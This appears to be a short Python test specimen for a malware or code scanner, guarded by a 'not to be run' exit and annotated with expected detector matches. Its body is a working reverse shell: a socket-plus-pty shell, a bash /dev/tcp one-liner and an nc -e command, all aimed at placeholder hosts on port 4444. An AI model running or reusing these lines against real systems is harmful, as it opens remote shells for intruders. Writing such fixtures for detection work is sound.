raise SystemExit("specimen: not to be run")
import os
import pty
import socket
import subprocess

def begin():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.1", 4444))  # match: covert-channel  # match: network-at-import
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/sh")  # match: reverse-shell  # match: process-at-import

begin()
os.system("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")  # match: reverse-shell
subprocess.Popen("nc -e /bin/sh example.invalid 4444", shell=True)  # match: reverse-shell  # match: process-at-import
